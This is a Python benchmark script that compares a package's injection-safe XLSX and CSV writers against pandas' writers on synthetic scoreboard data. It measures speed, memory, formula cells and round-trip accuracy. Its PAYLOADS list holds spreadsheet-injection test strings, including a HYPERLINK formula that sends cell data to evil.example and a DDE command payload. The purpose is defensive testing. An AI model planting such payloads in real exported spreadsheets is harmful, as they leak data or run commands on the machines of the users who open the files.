"""Benchmark: safe scoreboard spreadsheets against pandas' own writers, on the same data in one run.

A scoreboard-like frame of N rows (default 100,000): grid and community codes,
Chinese names, a few dozen injection payloads sprinkled into the names (BAD-INPUTS
case 9), ints (some negative), floats (negatives and NaN) and zone-aware report
times (Asia/Shanghai).

- **xlsx**: ``gridmap.export.spreadsheet.write_xlsx`` against
  ``DataFrame.to_excel(engine="openpyxl", index=False)``. pandas refuses
  zone-aware datetimes, so the peer gets the same times made naive (local
  clock time), which is what ours writes too.
- **csv**: ``gridmap.export.spreadsheet.write_csv`` against
  ``DataFrame.to_csv(index=False, encoding="utf-8-sig")``.

For each pair the script prints the time of each side and their ratio (no
target: ours does more work per cell and is expected to stay within 2x of the
peer), the peak Python memory of each (tracemalloc, measured in a second run so
that tracing does not distort the times; openpyxl and the csv writers are pure
Python, so this is their memory), the **formula cells** in each workbook
(``<f>`` elements counted in the sheet XML) or the **dangerous cells** in each
CSV (text cells that start with ``= + - @``, tab, CR or LF and are not
numbers, read with the csv module), and the accuracy of ours: every cell read
back (python-calamine for the workbook, the csv module for CSV) compared with
the input: numbers exact, text equal to the input with the one added
apostrophe removed, times equal to the local clock time.

Run: ``python benchmarks/spreadsheet.py [--rows 100000]``
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import gc
import math
import tempfile
import time
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any, Callable
from xml.etree import ElementTree

import numpy as np
import pandas as pd

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1",
            "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "=王小明", "-"]
NAMES = ["王小明", "李桂兰", "张建国", "刘芳", "赵志强", "陈秀英"]
COMMUNITIES = ["鼓楼社区", "二里半社区", "北大街社区", "文庙社区", "新建路社区", "古城墙社区"]
DANGEROUS = tuple("=+-@\t\r\n")


def make_frame(rows: int, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    community = rng.integers(0, 6, rows)
    cadre = np.array(NAMES, dtype=object)[rng.integers(0, len(NAMES), rows)]
    spots = np.unique(np.linspace(0, rows - 1, 4 * len(PAYLOADS)).astype(int))
    cadre[spots] = (PAYLOADS * 4)[: len(spots)]
    score = np.round(rng.normal(80, 15, rows), 2) - 60
    score[rng.random(rows) < 0.02] = np.nan
    start = pd.Timestamp("2025-01-01 07:00", tz="Asia/Shanghai")
    return pd.DataFrame({
        "grid_code": [f"610802001{c + 1:03d}{k % 36 + 1:03d}" for k, c in enumerate(community)],
        "community": np.array(COMMUNITIES, dtype=object)[community],
        "cadre": cadre,
        "reports": rng.integers(0, 60, rows),
        "change": rng.integers(-20, 21, rows),
        "rectified_rate": rng.random(rows),
        "score": score,
        "last_report": start + pd.to_timedelta(rng.integers(0, 300 * 86400, rows), unit="s"),
    })


def timed(func: Callable[[], Any]) -> tuple[float, float]:
    """Seconds of one untraced run, then the peak traced Python memory (MB) of a second run."""
    gc.collect()
    t0 = time.perf_counter()
    func()
    seconds = time.perf_counter() - t0
    gc.collect()
    tracemalloc.start()
    func()
    peak = tracemalloc.get_traced_memory()[1] / 1e6
    tracemalloc.stop()
    return seconds, peak


def formula_cells(path: Path) -> int:
    count = 0
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/sheet") and name.endswith(".xml"):
                with zf.open(name) as fh:
                    count += sum(1 for _, el in ElementTree.iterparse(fh) if el.tag.endswith("}f"))
    return count


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def dangerous_cells(path: Path) -> int:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return sum(1 for row in csv.reader(fh) for cell in row if cell.startswith(DANGEROUS) and not is_number(cell))


def expected_rows(frame: pd.DataFrame) -> list[list[Any]]:
    """The input as the reader should see it: text with the apostrophe rule applied independently."""
    local = frame.assign(last_report=frame["last_report"].dt.tz_localize(None))
    rows = []
    for row in local.itertuples(index=False):
        rows.append([("'" + v if v.startswith(DANGEROUS) else v) if isinstance(v, str) else v for v in row])
    return rows


def same(got: Any, want: Any) -> bool:
    if isinstance(want, float) and math.isnan(want):
        return got in ("", None)
    if isinstance(want, pd.Timestamp):
        if type(got) is dt.date:  # calamine reads a date-time serial without a fraction (midnight) as a date
            return got == want.date() and want == want.normalize()
        return bool(got == want.to_pydatetime())
    return bool(got == want)


def xlsx_mismatches(path: Path, expected: list[list[Any]]) -> int:
    from python_calamine import CalamineWorkbook

    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()[1:]
    if len(rows) != len(expected):
        return abs(len(rows) - len(expected)) * len(expected[0])
    return sum(not same(g, w) for got, want in zip(rows, expected) for g, w in zip(got, want))


def csv_mismatches(path: Path, expected: list[list[Any]]) -> int:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    bad = 0
    for got, want in zip(rows, expected):
        for g, w in zip(got, want):
            if isinstance(w, pd.Timestamp):
                bad += g != w.strftime("%Y-%m-%d %H:%M:%S")
            elif isinstance(w, (int, float, np.integer, np.floating)) and not isinstance(w, bool):
                bad += not (g == "" if math.isnan(w) else float(g) == w)
            else:
                bad += g != w
    return bad + abs(len(rows) - len(expected))


def main() -> None:
    from gridmap.export.spreadsheet import write_csv, write_xlsx

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, default=100_000)
    args = parser.parse_args()
    frame = make_frame(args.rows)
    naive = frame.assign(last_report=frame["last_report"].dt.tz_localize(None))
    expected = expected_rows(frame)
    payloads = int(frame["cadre"].isin(PAYLOADS).sum())
    print(f"rows: {args.rows:,}  columns: {frame.shape[1]}  injection payloads: {payloads}")
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        ours_x, peer_x = folder / "ours.xlsx", folder / "peer.xlsx"
        t_ours, m_ours = timed(lambda: write_xlsx(frame, ours_x))
        t_peer, m_peer = timed(lambda: naive.to_excel(peer_x, engine="openpyxl", index=False))
        print(f"xlsx  ours write_xlsx {t_ours:6.2f} s  peak {m_ours:6.0f} MB | peer to_excel {t_peer:6.2f} s  "
              f"peak {m_peer:6.0f} MB | time ratio ours/peer {t_ours / t_peer:4.2f}x | formula cells: ours "
              f"{formula_cells(ours_x)}, peer {formula_cells(peer_x)} | ours cells differing from input: "
              f"{xlsx_mismatches(ours_x, expected)}")
        ours_c, peer_c = folder / "ours.csv", folder / "peer.csv"
        t_ours, m_ours = timed(lambda: write_csv(frame, ours_c))
        t_peer, m_peer = timed(lambda: frame.to_csv(peer_c, index=False, encoding="utf-8-sig"))
        print(f"csv   ours write_csv  {t_ours:6.2f} s  peak {m_ours:6.0f} MB | peer to_csv    {t_peer:6.2f} s  "
              f"peak {m_peer:6.0f} MB | time ratio ours/peer {t_ours / t_peer:4.2f}x | dangerous cells: ours "
              f"{dangerous_cells(ours_c)}, peer {dangerous_cells(peer_c)} | ours cells differing from input: "
              f"{csv_mismatches(ours_c, expected)}")


if __name__ == "__main__":
    main()
